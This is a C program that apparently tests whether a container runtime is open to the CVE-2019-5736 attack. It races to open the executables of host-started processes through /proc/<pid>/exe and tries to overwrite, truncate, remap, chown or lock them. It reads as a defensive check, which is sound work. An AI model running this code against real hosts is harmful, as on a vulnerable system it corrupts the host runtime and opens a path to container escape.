// overwrite-runtime: what CVE-2019-5736 did. Opens the executable of every process that appears in its PID namespace while
// the host starts programs in the room, says which of them is no file of the room, and tries to change it. Ends when there
// is a file /tmp/stop.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/xattr.h>
#include <unistd.h>

static void did(const char* what, long result) {
  if (result >= 0) printf("DID %s\n", what);
}

// Everything that an open file lets one do to it, and what a second opening of it does.
static void change(int fd) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  did("write", write(fd, "#", 1));
  did("ftruncate", ftruncate(fd, 0));
  did("fallocate", fallocate(fd, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 4096));
  void* shared = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
  if (shared != MAP_FAILED) did("mmap", 0);
  did("truncate", truncate(path, 0));
  int again = open(path, O_RDWR);
  if (again >= 0) {
    puts("DID open it for writing");
    did("write again", write(again, "#", 1));
    did("ftruncate again", ftruncate(again, 0));
    close(again);
  }
}

// What needs no right to write: its mode, owner, attributes, and locks that others of the same file would meet.
static void disturb(int fd) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  did("flock", flock(fd, LOCK_EX | LOCK_NB));
  did("lease", fcntl(fd, F_SETLEASE, F_RDLCK));
  did("fchown", fchown(fd, 12345, 12345));
  did("setxattr", setxattr(path, "user.escape", "x", 1, 0));
  did("fchmod", fchmod(fd, 0600));
}

// The number of the newest process of this PID namespace: the last word of /proc/loadavg.
static int newest(void) {
  char text[128];
  int fd = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);
  ssize_t size = fd < 0 ? 0 : read(fd, text, sizeof text - 1);
  close(fd);
  text[size > 0 ? size : 0] = '\0';
  const char* last = strrchr(text, ' ');
  return last ? atoi(last + 1) : 0;
}

int main(int count, char** words) {
  int disturbing = count > 1 && strcmp(words[1], "disturb") == 0;
  setvbuf(stdout, 0, _IOLBF, 0);
  puts("ready");
  for (int found = 0; found < 3 && access("/tmp/stop", F_OK) != 0;) {
    // Asked as often as possible: after execve it takes room-init microseconds to shut itself off.
    for (int last = newest(), pid = last; pid < last + 3; pid++) {
      char path[64], target[256];
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      int fd = open(path, O_RDONLY | O_CLOEXEC);
      if (fd < 0) continue;
      snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
      ssize_t size = readlink(path, target, sizeof target - 1);
      target[size > 0 ? size : 0] = '\0';
      if (strncmp(target, "/bin/", 5) != 0 && strncmp(target, "/usr/local/bin/", 15) != 0) {
        printf("REACHED %s\n", target);
        found++;
        if (disturbing)
          disturb(fd);
        else
          change(fd);
      }
      close(fd);
    }
  }
  puts("end");
  return 0;
}
